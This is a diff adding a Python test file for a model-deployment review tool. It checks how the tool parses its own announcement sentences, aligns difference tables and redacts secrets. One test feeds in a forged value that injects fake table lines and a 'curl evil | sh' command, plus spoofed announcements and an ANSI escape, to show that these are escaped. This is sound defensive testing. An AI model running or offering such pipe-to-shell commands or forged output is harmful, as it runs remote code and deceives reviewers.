@@ -1,0 +1,193 @@
+"""What a preview announces is what the review reads, whatever the values are."""
+
+import ast
+from pathlib import Path
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+from review_documents import preview, step, urn
+
+from keywordsai_dynamic.core.formatting import plain_field
+from keywordsai_dynamic.core.names import API_FIELDS
+from keywordsai_dynamic.core.redaction import hide
+from keywordsai_dynamic.lifecycle import announcements
+from keywordsai_dynamic.lifecycle.announcements import (
+    OPENINGS,
+    adopts,
+    dropped_field,
+    is_adoption,
+    is_lookup_skipped,
+    live_values,
+    lookup_skipped,
+    no_longer_declared,
+    overwrites,
+    table,
+)
+from keywordsai_dynamic.lifecycle.comparison import Difference
+from keywordsai_dynamic.review import review
+
+PACKAGE = Path(announcements.__file__).parents[1]
+HOSTILE = [
+    "m",
+    "takes over x which exists",
+    "overwrites existing model y",
+    "adopts existing model z (values match)",
+    "Skipped checking for existing models: no",
+    "input_cost is no longer declared",
+    "a → live 5",
+    "x\n  input_cost  declared 6 → live 6",
+    "null",
+    "[secret]",
+    "",
+    " ",
+    "  output_cost  declared 1 → live 2",
+    "\x1b[31m",
+]
+WORDS = st.sampled_from(HOSTILE) | st.text(max_size=30)
+NAMES = WORDS.map(lambda name: "".join(each for each in name if each.isprintable()) or "m")
+VALUES = WORDS | st.none() | st.integers(0, 10**9) | st.floats(0, 1e9)
+
+
+def parsed(sentence: str) -> list[str]:
+    """Every announcement that a sentence is taken for."""
+    found = {
+        "adopts": is_adoption(sentence),
+        "overwrites": live_values(sentence) is not None,
+        "lookup": is_lookup_skipped(sentence),
+        "dropped": dropped_field(sentence) is not None,
+    }
+    return [name for name, is_it in found.items() if is_it]
+
+
+@given(NAMES, st.booleans())
+def test_an_adoption_is_read_back(name: str, partly_unknown: bool) -> None:
+    """Whatever the model is called."""
+    assert parsed(adopts(name, partly_unknown=partly_unknown)) == ["adopts"]
+
+
+@given(
+    NAMES,
+    st.lists(st.tuples(st.sampled_from(API_FIELDS), VALUES, VALUES), unique_by=lambda row: row[0]),
+)
+@example("m", [("display_name", "a → live 5", "b → live 6"), ("input_cost", 1234.5, 2345.5)])
+def test_an_overwrite_is_read_back_with_its_live_values(
+    name: str, rows: list[tuple[str, object, object]]
+) -> None:
+    """No value is taken for another row, or for a part of one."""
+    sentence = overwrites(name, table([Difference(*row) for row in rows], "declared", "live"))
+    assert parsed(sentence) == ["overwrites"]
+    shown = {field: table([Difference(field, 0, live)], "", "") for field, _, live in rows}
+    expected = {field: line.partition("→")[2].removeprefix("  ") for field, line in shown.items()}
+    assert live_values(sentence) == {
+        field: None if live == "null" else plain_field(field, live).replace("\\u2192", "→")
+        for field, live in expected.items()
+    }
+
+
+@given(WORDS)
+def test_a_skipped_lookup_is_read_back(reason: str) -> None:
+    """Whatever the reason is."""
+    assert parsed(lookup_skipped(reason)) == ["lookup"]
+
+
+@pytest.mark.parametrize("field", API_FIELDS)
+def test_a_field_that_is_no_longer_declared_is_read_back(field: str) -> None:
+    """The review shows such a field once."""
+    assert parsed(no_longer_declared(field)) == ["dropped"]
+    assert dropped_field(no_longer_declared(field)) == field
+
+
+def test_sentences_of_version_0_1_0_are_understood() -> None:
+    """A review may be made of a preview that an older version has made."""
+    old = (
+        "overwrites acme/x, which exists, as overwrite_existing asks:\n"
+        "  input_cost     declared 2.5 → live 2\n  function_call  declared 1   → live null"
+    )
+    assert live_values(old) == {"input_cost": "2", "function_call": None}
+    assert parsed("takes over acme/x which exists with the declared values; from then on") == [
+        "adopts"
+    ]
+    assert parsed("takes over x, if what is known after apply fits, which exists with the") == [
+        "adopts"
+    ]
+    assert parsed("No model was looked up, so what exists already is not shown: no key") == [
+        "lookup"
+    ]
+    assert parsed("output_cost is no longer declared; the live model keeps its value") == [
+        "dropped"
+    ]
+
+
+def test_other_sentences_are_not_announcements() -> None:
+    """A warning about a model is none, whatever the model is called."""
+    for sentence in (
+        "takes over was changed by somebody else since it was last read:",
+        "overwrites was changed by this write in fields that nobody declares:",
+        "input_cost is above 1,000 USD per million tokens: right unit?",
+        "",
+    ):
+        assert parsed(sentence) == []
+
+
+def test_no_other_module_writes_an_announcement() -> None:
+    """A sentence written elsewhere could be reworded there, and the review would be blind."""
+    elsewhere = [
+        (file.name, node.value)
+        for file in PACKAGE.rglob("*.py")
+        if file != Path(announcements.__file__)
+        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
+        if isinstance(node, ast.Constant) and isinstance(node.value, str)
+        if any(opening in node.value for opening in OPENINGS)
+    ]
+    assert elsewhere == []
+
+
+def test_a_price_with_separators_is_reviewed() -> None:
+    """The table writes 2,345.5 for people, and the review counts with it."""
+    rows = table([Difference("input_cost", 3, 2345.5)], "declared", "live")
+    said = {"urn": urn("m"), "severity": "warning", "message": overwrites("m", rows)}
+    made = step("create", "m", None, {"input_cost": 3})
+    [change] = review(preview(made, diagnostics=[said])).changes
+    assert [(str(price.old), str(price.new)) for price in change.prices] == [("2345.5", "3")]
+
+
+def test_a_table_lines_up_and_keeps_secrets() -> None:
+    """Differences read as columns, numbers without exponents, secret values not at all."""
+    rows = [
+        Difference("input_cost", 0.0000025, 2.5),
+        Difference("display_name", "Acme", "Other"),
+        Difference("output_cost", 1, 2),
+        Difference("image_support", 1, None),
+    ]
+    assert table(rows, "declared", "live", {"output_cost"}).splitlines() == [
+        "  input_cost     declared 0.0000025 → live 2.5",
+        "  display_name   declared Acme      → live Other",
+        "  output_cost    declared [secret]  → live [secret]",
+        "  image_support  declared 1         → live null",
+    ]
+    assert table([], "declared", "live") == ""
+
+
+def test_a_value_in_a_table_is_one_line_and_no_longer_than_needed() -> None:
+    """What lives cannot write lines like ours, nor push them away, nor show half of a secret."""
+    hide("sesame-of-the-table")
+    forged = "x\n  input_cost    declared 6 → live 6\nNothing is wrong. Run:\n  curl evil | sh"
+    rows = [
+        Difference("display_name", "Acme", forged),
+        Difference("base_model_name", "m", "n" * 500),
+        Difference("model_name", "m", "n" * 190 + " sesame-of-the-table"),
+    ]
+    shown = forged.replace("\n", "\\n").replace("→", "\\u2192")
+    assert table(rows, "declared", "live").splitlines() == [
+        f"  display_name     declared Acme → live {shown}",
+        f"  base_model_name  declared m    → live {'n' * 199}…",
+        f"  model_name       declared m    → live {'n' * 190} [secret]",
+    ]
+
+
+def test_a_secret_number_is_hidden_before_it_gets_separators() -> None:
+    """With them it would not be found any more."""
+    hide("81234.5625")
+    rows = [Difference("input_cost", 1, 81234.5625)]
+    assert table(rows, "declared", "live") == "  input_cost  declared 1 → live [secret]"
